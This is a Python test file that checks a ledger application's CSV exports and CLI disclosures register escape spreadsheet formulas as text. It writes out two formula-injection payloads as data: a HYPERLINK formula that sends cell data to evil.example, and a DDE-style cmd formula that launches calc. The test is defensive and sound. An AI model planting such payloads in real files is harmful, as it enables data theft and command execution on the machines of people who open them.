"""Text an emitter sent that a spreadsheet would run as a formula is written as text in every
CSV: the bundle's report files (and the offline verifier renders them the same), and the
disclosures register on the command line."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from ledger.application import LedgerApplication
from ledger.config import Settings
from ledger.verifier.bundle import verify_bundle
from ledger.verifier.spreadsheet import FORMULA_STARTS
from tests import facts
from tests.cli_runner import run_cli
from tests.support import bundles

FORMULA_REF = '=HYPERLINK("https://evil.example/?"&A1,"open")'
FORMULA_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"


def record_formulas(ledger: LedgerApplication) -> tuple[str, str]:
    pol = facts.policy()
    rcpt = facts.ref("rcpt")
    ledger.append(
        [
            pol,
            facts.recipient(rcpt, name=FORMULA_NAME),
            facts.consent(FORMULA_REF, pol["version"]),
            facts.disclosure(rcpt, [FORMULA_REF], pol["version"]),
        ]
    )
    return pol["version"], rcpt


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula(rows: list[list[str]]) -> None:
    starts = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert starts == []


def test_bundle_csvs_write_formulas_as_text_and_verify(
    ledger: LedgerApplication, settings: Settings, tmp_path: Path
) -> None:
    record_formulas(ledger)
    scope = {"kind": "subject", "subject": ledger.subject_keys.pseudonym(FORMULA_REF)}
    bundle = bundles.export(ledger, settings, scope, tmp_path / "b").path
    # the verifier renders the same CSV bytes
    verify_bundle(bundle, bundles.trusted(ledger, settings))
    consent = cells((bundle / "consent.csv").read_text())
    disclosures = cells((bundle / "disclosures.csv").read_text())
    for rows in (consent, disclosures):
        assert_no_formula(rows)
    ref_at = consent[0].index("subject_ref")
    assert {row[ref_at] for row in consent[1:]} == {"'" + FORMULA_REF}
    name_at = disclosures[0].index("recipient_name")
    assert [row[name_at] for row in disclosures[1:]] == ["'" + FORMULA_NAME]


def test_the_disclosures_register_csv_writes_formulas_as_text(
    ledger: LedgerApplication, settings: Settings
) -> None:
    record_formulas(ledger)
    ledger.close()
    result = run_cli(settings, "disclosures", "--csv")
    assert result.exit_code == 0, result.output
    rows = cells(result.output)
    assert_no_formula(rows)
    assert "'" + FORMULA_NAME in rows[1]
